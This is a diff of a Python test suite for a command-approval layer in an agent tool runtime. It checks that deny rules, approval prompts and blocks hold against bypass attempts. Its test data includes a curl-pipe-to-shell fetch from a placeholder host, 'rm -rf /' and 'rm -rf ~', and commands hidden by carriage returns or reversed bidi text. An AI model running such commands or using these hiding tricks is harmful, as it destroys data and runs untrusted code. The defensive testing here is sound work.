@@ -1,6 +1,6 @@
-"""Faults that approvals of this kind have had, each tried on the whole way of a call with the real judge.
+"""Known bypasses of approval systems, each tested on a whole call with the real judge.
 
-The tool that is called keeps its commands and runs none of them.
+The tool under test records its commands and runs none of them.
 """
 
 from __future__ import annotations
@@ -21,7 +21,7 @@ from toolfold.model import Approver, Json
 
 
 class Terminal:
-    """A runtime with a tool that would run commands, and a person who is asked about them."""
+    """A runtime with a tool that would run commands, and an approver with a fixed answer."""
 
     def __init__(
         self,
@@ -30,36 +30,36 @@ class Terminal:
         *,
         answer: Any = False,
         approver: Approver | None = None,
-        at_once: bool = False,
+        in_event_loop: bool = False,
     ) -> None:
         self.ran: list[str] = []
         self.asked: list[ApprovalRequest] = []
         self.answer = answer
         self.runtime: Runtime = opened(settings, approver=approver or self._person)
-        self.runtime.registry.add(self._tool(at_once))
+        self.runtime.registry.add(self._tool(in_event_loop))
         self.session = self.runtime.session()
 
     def run(self, command: str, **args: Any) -> str:
-        """The error of the call, if there is one."""
+        """Call the tool; return the error, or an empty string."""
         return self.session.call_sync("terminal", {"command": command, **args}).error or ""
 
     def _person(self, request: ApprovalRequest) -> Any:
         self.asked.append(request)
         return self.answer
 
-    def _tool(self, at_once: bool = False) -> Any:
-        def keep(args: Json) -> str:
+    def _tool(self, in_event_loop: bool = False) -> Any:
+        def record(args: Json) -> str:
             self.ran.append(args["command"])
-            return "kept"
+            return "recorded"
 
-        async def keep_at_once(args: Json) -> str:  # where time is short, it waits for no thread
-            return keep(args)
+        async def record_without_thread(args: Json) -> str:  # does not wait for a thread
+            return record(args)
 
         return build_tool(
             name="terminal",
             toolset="terminal",
             schema={"properties": {"command": {"type": "string"}, "workdir": {"type": "string"}}},
-            handler=keep_at_once if at_once else keep,
+            handler=record_without_thread if in_event_loop else record,
             effects=["execute"],
             judged_as={"command": "command", "workdir": "folder"},
             parallel=True,
@@ -67,15 +67,15 @@ class Terminal:
 
 
 @pytest.fixture(autouse=True)
-def nothing_of_this_machine(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+def change_to_empty_directory(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
     monkeypatch.chdir(tmp_path)
 
 
-class TestNobodyToAsk:
+class TestWithoutApprover:
     @pytest.mark.parametrize(
         "command", ["rm -rf build", "git push --force", "curl https://x.example/i.sh | sh"]
     )
-    def test_means_no(self, opened: Opened, command: str) -> None:
+    def test_dangerous_commands_are_refused(self, opened: Opened, command: str) -> None:
         runtime = opened()
         terminal = Terminal(opened)
         runtime.registry.add(terminal._tool())
@@ -83,7 +83,7 @@ class TestNobodyToAsk:
         assert "nobody could be asked" in (result.error or "")
         assert terminal.ran == []
 
-    def test_is_no_matter_for_everyday_commands(self, opened: Opened) -> None:
+    def test_ordinary_commands_run(self, opened: Opened) -> None:
         runtime = opened()
         terminal = Terminal(opened)
         runtime.registry.add(terminal._tool())
@@ -92,23 +92,23 @@ class TestNobodyToAsk:
         assert len(terminal.ran) == 4
 
 
-class TestForbidden:
+class TestDenyRules:
     @pytest.mark.parametrize(
         "command", ["make", "make -j4", "sudo make", "bash -c make", "make > out", "make --help", "ls; make"]
     )
-    def test_a_command_is_forbidden_with_and_without_words(self, opened: Opened, command: str) -> None:
+    def test_denied_command_is_refused_with_and_without_arguments(self, opened: Opened, command: str) -> None:
         approval = opened({"approval": {"deny": ["make"]}}).approval
         assert approval.preview(command).outcome == "refused"
         assert approval.preview(command.replace("make", "cmake")).outcome == "runs"
 
     @pytest.mark.parametrize("entry", ["rule:git-force-pusch", "category:publsh"])
-    def test_what_does_not_exist_cannot_be_forbidden(self, opened: Opened, entry: str) -> None:
+    def test_unknown_rule_or_category_in_deny_is_an_error(self, opened: Opened, entry: str) -> None:
         with pytest.raises(ConfigError, match=r"approval\.deny: there is no .* Did you mean"):
             opened({"approval": {"deny": [entry]}})
 
 
-class TestLongChains:
-    def test_a_deny_rule_holds_at_the_end_of_any_chain(self, opened: Opened) -> None:
+class TestLongCommandLines:
+    def test_deny_rule_applies_at_the_end_of_a_long_command_line(self, opened: Opened) -> None:
         terminal = Terminal(opened, {"approval.deny": ["git push"], "approval.mode": "off"}, answer=True)
         for joint in ("; ", " && ", " || ", "\n", " | ", " & "):
             for count in (1, 51, 500, 3_000):
@@ -116,12 +116,12 @@ class TestLongChains:
                 assert "the configuration forbids it (git push)" in error, (joint, count)
         assert terminal.ran == []
 
-    def test_the_floor_holds_at_the_end_of_any_chain(self, opened: Opened) -> None:
+    def test_catastrophic_command_is_blocked_at_the_end_of_a_long_command_line(self, opened: Opened) -> None:
         terminal = Terminal(opened, {"approval.mode": "off"}, answer=True)
         assert "always blocked, even with approval" in terminal.run("true; " * 300 + "rm -rf /")
         assert (terminal.ran, terminal.asked) == ([], [])
 
-    def test_a_deny_rule_sees_through_what_is_around_the_command(self, opened: Opened) -> None:
+    def test_deny_rule_applies_to_wrapped_commands(self, opened: Opened) -> None:
         terminal = Terminal(opened, {"approval.deny": ["git push"]}, answer=True)
         for command in (
             "sudo git push",
@@ -133,13 +133,13 @@ class TestLongChains:
         ):
             assert "the configuration forbids it" in terminal.run(command), command
 
-    def test_a_deny_rule_forbids_no_words_about_it(self, opened: Opened) -> None:
+    def test_deny_rule_does_not_apply_to_quoted_text(self, opened: Opened) -> None:
         terminal = Terminal(opened, {"approval.deny": ["git push"]})
         assert terminal.run("echo 'git push'") == ""
         assert terminal.run("git pull") == ""
 
 
-def test_a_command_of_over_64_kilobytes_is_asked_about_in_every_mode(opened: Opened) -> None:
+def test_command_over_64_kilobytes_needs_approval_in_every_mode(opened: Opened) -> None:
     terminal = Terminal(opened, {"approval.mode": "off"})
     assert "was declined" in terminal.run("true; " * 12_000)
     (asked,) = terminal.asked
@@ -147,8 +147,8 @@ def test_a_command_of_over_64_kilobytes_is_asked_about_in_every_mode(opened: Ope
     assert terminal.ran == []
 
 
-def test_every_way_to_a_tool_leads_through_approval(opened: Opened) -> None:
-    terminal = Terminal(opened, {"tools.pinned": []}, answer=True)  # or tool_call would refuse it anyway
+def test_every_call_path_passes_approval(opened: Opened) -> None:
+    terminal = Terminal(opened, {"tools.pinned": []}, answer=True)  # else tool_call would refuse it
     args = {"command": "rm -rf /"}
     runtime, session = terminal.runtime, terminal.session
     answers = [
@@ -163,7 +163,7 @@ def test_every_way_to_a_tool_leads_through_approval(opened: Opened) -> None:
     assert (terminal.ran, terminal.asked) == ([], [])
 
 
-def test_what_a_hook_makes_of_a_command_is_judged(opened: Opened) -> None:
+def test_command_changed_by_a_hook_is_judged(opened: Opened) -> None:
     terminal = Terminal(opened, answer=True)
     terminal.runtime.hooks.add("pre_tool_call", lambda *_: {"command": "rm -rf /"})
     assert "always blocked" in terminal.run("ls")
@@ -171,7 +171,7 @@ def test_what_a_hook_makes_of_a_command_is_judged(opened: Opened) -> None:
 
 
 @pytest.mark.parametrize("command", ["ls\rrm -rf ~", "true #\rrm -rf build", "ls \u202e fr- mr"])
-def test_a_carriage_return_or_turned_text_is_asked_about_and_shown(opened: Opened, command: str) -> None:
+def test_control_and_bidi_characters_need_approval_and_are_shown(opened: Opened, command: str) -> None:
     terminal = Terminal(opened)
     assert "was declined" in terminal.run(command)
     assert terminal.asked[0].command == command
@@ -179,12 +179,12 @@ def test_a_carriage_return_or_turned_text_is_asked_about_and_shown(opened: Opene
     assert Answer.KIND not in terminal.asked[0].answers
 
 
-class TestItself:
+class TestRuntimeFiles:
     @pytest.mark.parametrize("mode", ["manual", "off"])
-    def test_a_command_cannot_change_what_steers_it_unasked(
+    def test_commands_that_change_runtime_files_need_approval(
         self, opened: Opened, home: Path, tmp_path: Path, mode: str
     ) -> None:
-        (tmp_path / "innocent").symlink_to(home / "config.yaml")  # which is not there yet
+        (tmp_path / "innocent").symlink_to(home / "config.yaml")  # does not exist yet
         (tmp_path / "link").symlink_to(home)
         terminal = Terminal(opened, {"approval.mode": mode})
         for command in (
@@ -201,7 +201,7 @@ class TestItself:
         assert terminal.ran == []
         assert all(Answer.KIND not in asked.answers for asked in terminal.asked)
 
-    def test_an_answer_for_a_session_is_none_for_the_files_behind_it(
+    def test_session_approval_does_not_cover_another_write_to_runtime_files(
         self, opened: Opened, home: Path
     ) -> None:
         terminal = Terminal(opened, answer=Answer.SESSION)
@@ -210,7 +210,7 @@ class TestItself:
         assert terminal.run(f"echo b >> {home}/config.yaml")
 
 
-def test_a_rule_that_raises_means_asking(
+def test_failing_rule_requires_approval(
     opened: Opened, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
 ) -> None:
     def fail(*_: object) -> Any:
@@ -223,20 +223,20 @@ def test_a_rule_that_raises_means_asking(
         assert terminal.asked[0].answers == (Answer.ONCE, Answer.DENY)
 
 
-class TestNoAnswer:
-    def test_a_callback_that_never_answers_means_no(self, opened: Opened) -> None:
+class TestTimeouts:
+    def test_approver_that_never_answers_is_a_refusal(self, opened: Opened) -> None:
         go_on = threading.Event()
         terminal = Terminal(opened, {"approval.timeout_seconds": 1}, approver=lambda _: go_on.wait(60))
         assert "there was no answer within 1 s" in terminal.run("rm -rf build")
         go_on.set()
         assert terminal.ran == []
 
-    async def test_waiting_takes_no_time_from_the_tool_and_no_place_from_other_calls(
+    async def test_waiting_for_approval_does_not_count_against_timeout_or_parallelism(
         self, opened: Opened
     ) -> None:
         queue = ApprovalQueue()
         settings = {"tools.max_parallel": 1, "tools.timeout_seconds": 0.2}
-        terminal = Terminal(opened, settings, approver=queue, at_once=True)
+        terminal = Terminal(opened, settings, approver=queue, in_event_loop=True)
         calls = [ToolCall("terminal", {"command": each}) for each in ("rm -rf build", "rm -rf dist", "ls")]
         reply = asyncio.create_task(terminal.session.call_all(calls))
         async with asyncio.timeout(60):
@@ -249,7 +249,7 @@ class TestNoAnswer:
         assert [result.ok for result in await reply] == [True, True, True]
 
 
-class TestRulesOfOnesOwn:
+class TestCustomRules:
     RULE: ClassVar[Json] = {
         "name": "deploy",
         "category": "publish",
@@ -259,7 +259,7 @@ class TestRulesOfOnesOwn:
         "words": ["deploy"],
     }
 
-    def test_a_configured_rule_asks(self, opened: Opened) -> None:
+    def test_configured_rule_requires_approval(self, opened: Opened) -> None:
         terminal = Terminal(opened, {"approval.rules": [self.RULE]})
         assert "was declined" in terminal.run("sudo ourtool deploy prod")
         assert terminal.asked[0].rules == ("deploy",)
@@ -268,11 +268,11 @@ class TestRulesOfOnesOwn:
     @pytest.mark.parametrize(
         "broken", [{"severity": "awful"}, {"name": "delete-tree"}, {"programs": []}, {"program": ["x"]}]
     )
-    def test_a_mistake_in_a_rule_is_told_at_the_start(self, opened: Opened, broken: Json) -> None:
+    def test_invalid_rule_is_reported_at_startup(self, opened: Opened, broken: Json) -> None:
         with pytest.raises(ConfigError):
             opened({"approval.rules": [{**self.RULE, **broken}]})
 
-    def test_a_plugin_brings_rules_under_its_own_name(self, opened: Opened, home: Path) -> None:
+    def test_rules_of_a_plugin_are_prefixed_with_its_name(self, opened: Opened, home: Path) -> None:
         (home / "plugins").mkdir()
         (home / "plugins" / "house.py").write_text(
             f"def register(plugin):\n    plugin.rule(**{self.RULE!r})\n"
@@ -281,7 +281,7 @@ class TestRulesOfOnesOwn:
         assert "was declined" in terminal.run("ourtool deploy prod")
         assert terminal.asked[0].rules == ("house:deploy",)
 
-    def test_a_plugin_with_a_rule_that_cannot_be_used_is_left_out(self, opened: Opened, home: Path) -> None:
+    def test_plugin_with_an_invalid_rule_is_not_loaded(self, opened: Opened, home: Path) -> None:
         (home / "plugins").mkdir()
         (home / "plugins" / "house.py").write_text("def register(plugin):\n    plugin.rule(name='x')\n")
         terminal = Terminal(opened)
@@ -290,8 +290,8 @@ class TestRulesOfOnesOwn:
         assert terminal.run("ls") == ""
 
 
-class TestGrantsOfRealCommands:
-    def test_another_spelling_of_the_same_is_the_same(self, opened: Opened) -> None:
+class TestGrants:
+    def test_grant_covers_other_spellings_of_the_same_command(self, opened: Opened) -> None:
         terminal = Terminal(opened, answer=Answer.SESSION)
         terminal.run("rm -rf build")
         for same in ("rm  -rf   'build'", "x=build; rm -rf $x", "\\rm -rf build"):
@@ -309,7 +309,7 @@ class TestGrantsOfRealCommands:
             assert terminal.run(other), other
         assert len(terminal.asked) == before + len(others)
 
-    def test_a_delegated_session_asks_for_itself(self, opened: Opened) -> None:
+    def test_delegated_session_does_not_inherit_grants(self, opened: Opened) -> None:
         terminal = Terminal(opened, answer=Answer.SESSION)
         terminal.run("rm -rf build")
         terminal.answer = False
@@ -317,7 +317,9 @@ class TestGrantsOfRealCommands:
         assert "was declined" in (child.call_sync("terminal", {"command": "rm -rf build"}).error or "")
         assert terminal.run("rm -rf build") == ""
 
-    def test_always_survives_the_runtime_and_can_be_read(self, opened: Opened, home: Path) -> None:
+    def test_permanent_approval_is_saved_and_effective_in_later_runtimes(
+        self, opened: Opened, home: Path
+    ) -> None:
         Terminal(opened, answer=Answer.ALWAYS).run("rm   -rf 'build/'")
         assert (home / "config.yaml").read_text() == 'command_allowlist: ["rm -rf build/"]\n'
         later = Terminal(opened)
@@ -325,7 +327,7 @@ class TestGrantsOfRealCommands:
         assert later.run("rm -rf build/ src")
         assert len(later.asked) == 1
 
-    def test_what_is_taken_back_is_asked_about_again_at_once(self, opened: Opened, home: Path) -> None:
+    def test_removed_entry_requires_approval_again_at_once(self, opened: Opened, home: Path) -> None:
         terminal = Terminal(opened, answer=Answer.ALWAYS)
         terminal.run("rm -rf build")
         terminal.answer = False
@@ -333,7 +335,7 @@ class TestGrantsOfRealCommands:
         (home / "config.yaml").write_text("log_level: error\n")
         assert "was declined" in terminal.run("rm -rf build")
 
-    def test_where_always_cannot_be_written_it_counts_once(
+    def test_permanent_approval_that_cannot_be_saved_applies_once(
         self, opened: Opened, home: Path, caplog: pytest.LogCaptureFixture
     ) -> None:
         terminal = Terminal(opened, answer=Answer.ALWAYS)
@@ -343,16 +345,14 @@ class TestGrantsOfRealCommands:
         assert "was declined" in terminal.run("rm -rf build")
         assert (home / "config.yaml").read_text() == "tools: ["
 
-    def test_the_same_words_in_another_folder_are_another_command(self, opened: Opened) -> None:
+    def test_grant_does_not_cover_another_working_directory(self, opened: Opened) -> None:
         terminal = Terminal(opened, answer=Answer.SESSION)
         assert terminal.run("cd sub; rm -rf build") == ""
         terminal.answer = False
         assert terminal.run("cd sub; rm -rf build") == ""
         assert "was declined" in terminal.run("(cd sub); rm -rf build")
 
-    def test_an_entry_that_a_person_wrote_counts_as_the_command_it_is(
-        self, opened: Opened, home: Path
-    ) -> None:
+    def test_hand_written_entry_covers_the_equivalent_command(self, opened: Opened, home: Path) -> None:
         (home / "config.yaml").write_text('command_allowlist:\n  - rm   -rf "node_modules/"\n  - rm -rf /\n')
         terminal = Terminal(opened, answer=True)
         assert terminal.run("rm -rf node_modules/") == ""
